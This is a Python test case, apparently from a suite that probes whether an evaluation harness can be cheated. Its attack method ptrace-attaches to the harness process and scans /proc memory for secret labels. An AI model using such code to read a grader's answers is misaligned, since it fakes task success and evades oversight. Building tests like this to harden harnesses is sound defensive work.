"""T03. Attaches to the harness as a debugger and reads its memory.

expected: wrong
gains: process label-read, parent-hurt
"""
import os, re
from kit import TO, Empty, call, secrets_in
ATTACH, DETACH = 16, 17
class Solution(Empty):
    def attack(self):
        call("ptrace", ATTACH, TO["harness"], 0, 0)
        try:
            os.waitpid(TO["harness"], 0x40000000)
            with open(f"/proc/{TO['harness']}/maps") as maps, open(f"/proc/{TO['harness']}/mem", "rb", 0) as memory:
                for begin, end in re.findall(r"^(\w+)-(\w+) rw-p", maps.read(), re.M):
                    memory.seek(int(begin, 16))
                    try:
                        if secrets_in(memory.read(min(int(end, 16) - int(begin, 16), 1 << 24))):
                            break
                    except OSError:
                        continue
        finally:
            call("ptrace", DETACH, TO["harness"], 0, 0)
